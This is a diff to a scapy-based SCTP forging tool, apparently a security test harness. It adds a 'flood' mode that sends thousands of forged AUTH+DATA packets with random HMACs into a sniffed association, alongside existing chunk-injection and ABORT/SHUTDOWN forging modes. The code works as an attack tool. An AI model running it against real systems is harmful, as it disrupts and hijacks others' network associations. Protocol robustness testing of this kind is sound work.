@@ -2,7 +2,8 @@
 # sctp-forge: an attacker on the path forges chunks into an association it
 # watches, with scapy: the seeds' attacks T1 (a DATA chunk moved to
 # another stream or made unordered), T2 (FORWARD-TSN), T3 (DATA), T4
-# (ABORT, SHUTDOWN), a forged SACK and a replayed packet.
+# (ABORT, SHUTDOWN), a forged SACK, a replayed packet and T19 (a flood
+# of packets with a bad HMAC).
 #
 #   sctp-forge.py IFACE DPORT MODE...
 #	sniff IFACE for an association set up to port DPORT: its INIT and
@@ -27,6 +28,13 @@
 #	            after the last one seen: the seeds' T1
 #	  ubit      the same chunk with the TSN after the last and the U bit
 #	            set (delivered unordered): T1
+#	  flood     FORGE_FLOOD (default 2000) packets as fast as they go,
+#	            each an AUTH chunk with the key identifier and HMAC
+#	            algorithm of the server's last one and random bytes for
+#	            the HMAC, then a DATA chunk of 100 random bytes, TSNs
+#	            from the next one on: the seeds' T19, what it costs the
+#	            receiver to verify and drop them; prints "flood N
+#	            packets in T s"
 #	  icmp-mtu     an ICMP "fragmentation needed" (MTU 296) for the
 #	               initiator's packets to the responder (IPv4; the seeds'
 #	               T14), from the responder's address
@@ -233,6 +241,29 @@ def chunk(kind):
     raise SystemExit("unknown mode " + kind)
 
 
+def flood(n):
+    """T19: packets that pass every check but the HMAC's."""
+    raw, kid, hid2 = st["lastraw"], 0, hid
+    for ctype, flags, c in chunks(raw):
+        if ctype == 0x0f:
+            kid, hid2 = struct.unpack("!HH", c[4:8])
+    hl = 32 if hid2 == 3 else 20
+    pkts = []
+    for i in range(n):
+        auth = struct.pack("!BBHHH", 0x0f, 0, 8 + hl, kid, hid2) + \
+            os.urandom(hl)
+        data = struct.pack("!BBHIHHI", 0, 0x03, 16 + 100,
+                           (st["tsn"] + 1 + i) & 0xffffffff, 0, 0, 0) + \
+            os.urandom(100)
+        pkts.append(net(src=sdst, dst=csrc) /
+                    SCTP(sport=dport, dport=cport, tag=ctag) /
+                    Raw(auth + data))
+    t0 = time.time()
+    send(pkts)
+    print("flood %d packets in %.1f s (key %d, HMAC %d)" %
+          (n, time.time() - t0, kid, hid2), flush=True)
+
+
 for i, mode in enumerate(modes):
     mode = {"plain": "data", "auth0": "data-auth0"}.get(mode, mode)
     kind, _, how = mode.partition("-")
@@ -248,6 +279,11 @@ for i, mode in enumerate(modes):
         send(IP(src=sdst, dst=csrc) / icmp /
              IP(src=csrc, dst=sdst, proto=132) /
              SCTP(sport=cport, dport=dport, tag=stag))
+        print("sent %s at %s" % (mode, uptime()), flush=True)
+        time.sleep(2)
+        continue
+    if kind == "flood":
+        flood(int(os.environ.get("FORGE_FLOOD", "2000")))
         print("sent %s at %s" % (mode, uptime()), flush=True)
         time.sleep(2)
         continue
